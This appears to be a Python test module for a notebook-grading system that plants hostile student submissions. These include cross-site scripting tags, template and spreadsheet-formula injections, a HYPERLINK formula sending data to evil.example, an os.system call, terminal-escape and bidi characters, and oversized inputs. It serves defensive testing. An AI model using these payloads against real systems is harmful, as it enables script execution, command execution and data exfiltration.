"""Papers with script, pictures, formulas and signs that don't print, in every place that reaches a page or a table."""

from __future__ import annotations

import copy
import json

from tests.hostile.hall import SET, Hall, Notebook, answer_cell, cell, own_cell, zipped
from tests.hostile.kinds import Kinds

TEXTS = Kinds()

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)><iframe src='https://evil.example'></iframe>"
UNREAD = "eve), problem 2a, volume to be infused: "


def _typed(number: int, text: str) -> Notebook:
    """The line of an answer cell in which a text is typed, whatever it holds."""
    return {"source": f"answer_{number} = {json.dumps(text, ensure_ascii=False)}"}


@TEXTS.add(points=1, says="a text cell of the student's own behind it holds a number")
def script_in_markdown(hall: Hall) -> None:
    """Cells of one's own, an attachment, and more behind a stem."""

    def change(notebook: Notebook) -> None:
        picture = {"x.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"}}
        notebook["cells"].insert(0, own_cell("markdown", f"{SCRIPT} [x](javascript:alert(1))", attachments=picture))
        notebook["cells"].append(own_cell("raw", SCRIPT, metadata={"raw_mimetype": "text/html"}))
        stem = cell(notebook, "q1-stem")
        stem["source"] = ["".join(stem["source"]), SCRIPT]

    hall.eve(change)


@TEXTS.add(
    points=1, says="problem 2a, volume to be infused: The answer cell is empty; the student wrote something near it"
)
def script_in_outputs(hall: Hall) -> None:
    """Every kind of output that a browser would run."""
    data = {
        "text/html": SCRIPT,
        "text/markdown": SCRIPT,
        "application/javascript": "alert(1)",
        "image/svg+xml": "<svg onload='alert(1)'/>",
        "text/latex": r"\href{javascript:alert(1)}{x}",
    }

    def change(notebook: Notebook) -> None:
        for one in notebook["cells"]:
            if one["cell_type"] == "code":
                one["outputs"] = [
                    {"output_type": "display_data", "data": data, "metadata": {}},
                    {"output_type": "stream", "name": "stderr", "text": [SCRIPT]},
                    {"output_type": "error", "ename": SCRIPT, "evalue": SCRIPT, "traceback": [SCRIPT]},
                ]

    hall.eve(change)


@TEXTS.add(points=1, says=UNREAD)
def script_in_an_answer(hall: Hall) -> None:
    """Tags, an end of the style sheet, and the words of a template engine."""
    text = SCRIPT + "</style></td>\"'>{{ 7 * 7 }}{% include 'page.css' %}${7*7}<!--"
    hall.eve(lambda notebook: answer_cell(notebook, 2).update(_typed(2, text)))


@TEXTS.add(points=1, says="There is text outside the quotes")
def script_around_an_answer(hall: Hall) -> None:
    """The same outside the quotes."""
    hall.eve(lambda notebook: answer_cell(notebook, 2).update(source=[f"{SCRIPT}\n", 'answer_2 = ""\n', SCRIPT]))


@TEXTS.add(points=1, says="onerror=alert")
def script_in_the_name_of_a_file(hall: Hall) -> None:
    """A name that is a tag, of a file in a zip that belongs to nobody, and of eve's only notebook."""
    path = hall.eve()
    name = "<img src=x onerror=alert(1)>.ipynb"
    path.rename(path.with_name(name))
    zipped(hall.inbox / "more.zip", (name, b"{}"))


@TEXTS.add(points=1, says="nor the file has the name of a student")
def script_in_the_name_of_a_zip(hall: Hall) -> None:
    """The same with signs that would clear a terminal or turn the direction of writing."""
    hall.eve()
    zipped(hall.inbox / "more.zip", ("\x1b[2J\u202e<script>alert(1)<\\script>\r\n.ipynb", b"{}"))


@TEXTS.add(points=0, says="eve): notebook set aside. The notebook was made for somebody else.")
def script_in_the_metadata(hall: Hall) -> None:
    """In all that the notebook says of itself and of its cells."""

    def change(notebook: Notebook) -> None:
        notebook["metadata"] |= {"title": SCRIPT, "authors": [{"name": SCRIPT}], "kernelspec": {"display_name": SCRIPT}}
        notebook["metadata"]["calclib"]["made_for"] = SCRIPT
        for one in notebook["cells"]:
            one["metadata"] |= {"tags": [SCRIPT], "name": SCRIPT, "jupyter": {SCRIPT: SCRIPT}}

    hall.eve(change)


@TEXTS.add(points=1, says="The answer cell is missing")
def script_in_the_ids(hall: Hall) -> None:
    """An id of a cell that would close an attribute."""

    def change(notebook: Notebook) -> None:
        one = answer_cell(notebook, 2)
        one["id"] = one["metadata"]["nbgrader"]["grade_id"] = f'{SET}-q2"><script>alert(1)</script>'

    hall.eve(change)


def _answered(name: str, text: str, says: str) -> None:
    def plant(hall: Hall) -> None:
        hall.eve(lambda notebook: answer_cell(notebook, 2).update(_typed(2, text)))

    plant.__name__ = name
    TEXTS.add(points=1, says=says)(plant)


_answered("formula in an answer", "=cmd|' /C calc'!A0", UNREAD)
_answered("link as a formula in an answer", '=HYPERLINK("https://evil.example?x="&A1, "100 mL")', UNREAD)
_answered("formula that looks like a number", "-2+3+cmd|' /C calc'!A0", UNREAD)
_answered("code in an answer", '__import__("os").system("touch planted")', UNREAD)
_answered("tower of powers in an answer", "9**9**9 mL", UNREAD)
_answered("number without end in an answer", "1e9999999 mL", UNREAD)
_answered("answer that turns the direction of writing", "\u202e\u2066Lm 001\u2069 <b>right</b>", UNREAD)
_answered("answer with a zero byte", "100 mL\0; drop table grade", UNREAD)
_answered("brackets without end in an answer", "(" * 900, UNREAD)
_answered("letters that grow when they are made plain", "\ufdfa" * 300, UNREAD)


@TEXTS.add(points=1, says=UNREAD)
def halves_of_a_character(hall: Hall) -> None:
    """JSON may hold half of a character; no database and no page can."""

    def change(notebook: Notebook) -> None:
        answer_cell(notebook, 2)["source"] = 'answer_2 = "100 mL \ud800"'
        notebook["cells"].append(own_cell("markdown", "\udfff"))
        notebook["metadata"]["\ud83d"] = "\ud83d"

    hall.eve(change)


@TEXTS.add(points=1, says="too long")
def answer_of_a_megabyte(hall: Hall) -> None:
    """Far more than anybody types."""
    hall.eve(lambda notebook: answer_cell(notebook, 2).update(source='answer_2 = "' + "1 mL " * 200_000 + '"'))


@TEXTS.add(points=1, says="too many lines")
def answer_of_a_thousand_lines(hall: Hall) -> None:
    """The same in lines."""
    hall.eve(lambda notebook: answer_cell(notebook, 2).update(source=["#\n"] * 1000 + ['answer_2 = "1 mL"']))


@TEXTS.add(points=1, says="The answer cell is missing")
def answers_without_end_elsewhere(hall: Hall) -> None:
    """Thousands of cells that speak of an answer whose own cell is gone."""

    def change(notebook: Notebook) -> None:
        notebook["cells"].remove(answer_cell(notebook, 2))
        cells = [own_cell("code", "  answer_2 " * 300) for _ in range(4000)]
        notebook["cells"] = [*copy.copy(cells), *notebook["cells"]]

    hall.eve(change)
